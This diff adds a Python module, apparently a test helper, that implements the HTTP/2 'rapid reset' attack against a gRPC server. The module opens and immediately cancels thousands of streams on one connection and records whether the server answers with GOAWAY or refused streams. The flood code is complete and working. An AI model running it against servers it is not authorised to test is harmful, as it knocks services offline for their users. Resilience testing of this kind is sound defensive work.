@@ -1,0 +1,105 @@
+"""A raw HTTP/2 client for the attacks gRPC itself cannot make: rapid reset.
+
+The ``h2`` protocol core frames the connection; this module only moves its
+bytes over a socket, so what goes on the wire is exactly what the test asks for.
+"""
+
+from __future__ import annotations
+
+import socket
+from dataclasses import dataclass
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+
+
+@dataclass
+class RapidResetOutcome:
+    """What the server did while the streams were opened and reset."""
+
+    streams_sent: int
+    goaway: bool  # the server closed the connection with GOAWAY
+    refused_streams: int  # streams the server reset itself (REFUSED_STREAM and the like)
+
+
+def _headers(authority: str, path: str) -> list[tuple[str, str]]:
+    return [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":authority", authority),
+        (":path", path),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+
+
+def rapid_reset(
+    address: str, path: str, *, streams: int = 20_000, batch: int = 100, timeout: float = 30.0
+) -> RapidResetOutcome:
+    """Open ``streams`` streams on one connection, each HEADERS then RST_STREAM(CANCEL) at once.
+
+    Frames go out ``batch`` streams at a time; the server's frames are read as
+    they come. At the end a PING is sent and its ACK awaited, so the server has
+    read every frame before this returns (unless it sent GOAWAY first).
+    """
+    host, _, port = address.rpartition(":")
+    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+    connection = h2.connection.H2Connection(config=config)
+    connection.initiate_connection()
+    outcome = RapidResetOutcome(streams_sent=0, goaway=False, refused_streams=0)
+    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
+        sock.sendall(connection.data_to_send())
+        headers = _headers(address, path)
+        pong = False
+
+        def read(block: bool) -> None:
+            nonlocal pong
+            sock.setblocking(block)
+            try:
+                data = sock.recv(65536)
+            except (BlockingIOError, InterruptedError):
+                return
+            finally:
+                sock.setblocking(True)
+                sock.settimeout(timeout)
+            if not data:
+                outcome.goaway = True
+                return
+            try:
+                events = connection.receive_data(data)
+            except h2.exceptions.ProtocolError:
+                outcome.goaway = True
+                return
+            for event in events:
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    outcome.goaway = True
+                elif isinstance(event, h2.events.StreamReset) and event.remote_reset:
+                    outcome.refused_streams += 1
+                elif isinstance(event, h2.events.PingAckReceived):
+                    pong = True
+            pending = connection.data_to_send()
+            if pending:
+                sock.sendall(pending)
+
+        for start in range(0, streams, batch):
+            if outcome.goaway:
+                break
+            for _ in range(min(batch, streams - start)):
+                stream_id = connection.get_next_available_stream_id()
+                connection.send_headers(stream_id, headers)
+                connection.reset_stream(stream_id)
+                outcome.streams_sent += 1
+            try:
+                sock.sendall(connection.data_to_send())
+            except OSError:
+                outcome.goaway = True
+                break
+            read(block=False)
+        if not outcome.goaway:
+            connection.ping(b"rstflood")
+            sock.sendall(connection.data_to_send())
+            while not pong and not outcome.goaway:
+                read(block=True)
+    return outcome
